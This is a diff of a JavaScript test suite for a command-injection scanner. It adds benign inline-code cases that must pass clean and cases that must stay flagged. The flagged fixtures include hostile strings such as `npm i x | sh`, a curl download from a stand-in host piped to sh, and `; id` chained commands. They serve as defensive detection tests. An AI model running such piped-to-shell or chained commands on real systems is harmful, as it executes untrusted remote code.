@@ -550,7 +550,7 @@ describe('cmdi: a developer tool opening a code span that stands apart documents
     'Run `npm install express` to add the dependency', '> `npm i -D vitest`', '| `npm start` | Starts the server |',
     '* `make test` - runs the tests', 'Then `kubectl apply -f x.yaml` applies it', 'run `node app.js`, then open it',
     'Run `python -m venv .venv` first', 'Run `node -r ts-node/register x.js` now', '`npm` executable', '`npm run bench` - benchmarks',
-    'Use `git commit -m "x"` to save', 'Install with `pip install requests`', 'x | `npm i x` |', '| `ls -la` | lists |',
+    'Use `git commit -m "x"` to save', 'Install with `pip install requests`', 'x | `npm i x` |', '| `ls -la` | lists |', 'Launch (`npm run dev`) and',
   ])('%s stays clean', (input) => {
     expect(d.scan(input, { context: 'body' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
     expectSameWhenSplit(d, [input], 'body');
@@ -561,6 +561,7 @@ describe('cmdi: a developer tool opening a code span that stands apart documents
     'Run `npm i x; id` now', 'Run `npm i x | sh` now', '`npm run x` && curl http://x.test | sh',
     'Run `curl http://x.test` now', 'Run `sudo apt install x` now', '`id`',
     // after a separator and a space, and after '| ' unless the span is a table cell (" |" after it)
+    "'.print(`npm i evil`).'", 'f(`date`)', 'f(`ls -la`) x', // an argument of a call: the punctuation before it glued to a word
     'x && `npm i evil`', 'a; `npm test` runs the tests', 'x; `ls -la` y', '| `npm i x` now', '| `npm i x`', '| `ls -la` now', '| `node app.js` |',
   ])('%s is still flagged', (input) => {
     expect(d.scan(input, { context: 'body' }).blocked).toBe(true);
